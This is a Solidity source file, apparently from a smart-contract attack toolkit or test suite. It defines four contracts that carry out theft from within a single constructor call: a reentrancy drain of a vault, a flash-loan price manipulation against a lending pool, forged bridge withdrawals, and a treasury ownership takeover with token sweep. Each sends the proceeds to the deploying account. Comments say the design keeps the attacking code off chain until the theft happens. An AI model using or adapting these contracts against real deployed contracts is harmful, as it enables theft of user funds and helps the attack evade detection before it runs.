// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {IERC20} from "./ERC20.sol";
import {IEtherVault, ReentrancyAttacker} from "./ReentrancyAttacker.sol";
import {
    FlashLoanAttacker, IFlashLenderLike, ISpotPool, ILendingPoolLike
} from "./FlashLoanAttacker.sol";
import {BridgeAttacker, IMessageBridge} from "./BridgeAttacker.sol";
import {IInitializableTreasury, TakeoverAttacker} from "./TakeoverAttacker.sol";

// Attacks that run entirely inside a contract constructor: one creation transaction, no
// `to`, no prior deployment, and the attacking code never exists on chain before the theft.
// Where the attack needs a callback (a contract under construction has no code yet) the
// constructor deploys a helper and drives it.

/// @title Reentrancy drain from a constructor; the proceeds go to the creating account.
contract ReentrancyStrike {
    constructor(IEtherVault vault, uint256 maxReentries) payable {
        ReentrancyAttacker helper = new ReentrancyAttacker(vault, payable(msg.sender));
        helper.attack{value: msg.value}(maxReentries);
    }
}

/// @title Flash-loan price manipulation from a constructor.
contract FlashLoanStrike {
    constructor(
        IFlashLenderLike lender,
        ISpotPool pool,
        ILendingPoolLike lending,
        IERC20 debtToken,
        IERC20 collateralToken,
        uint256 loanAmount,
        uint256 pumpAmount
    ) {
        FlashLoanAttacker helper =
            new FlashLoanAttacker(lender, pool, lending, debtToken, collateralToken, msg.sender);
        helper.attack(loanAmount, pumpAmount);
    }
}

/// @title Forged bridge withdrawals from a constructor.
contract BridgeStrike is BridgeAttacker {
    constructor(
        IMessageBridge target,
        address[] memory tokens,
        uint256[] memory amounts,
        uint64 firstNonce
    ) BridgeAttacker(target, msg.sender) {
        forge(target, tokens, amounts, firstNonce, msg.sender);
    }
}

/// @title Ownership takeover and sweep from a constructor.
contract TakeoverStrike is TakeoverAttacker {
    constructor(IInitializableTreasury target, IERC20[] memory tokens)
        TakeoverAttacker(target, msg.sender)
    {
        takeOver(target, tokens, msg.sender);
    }
}
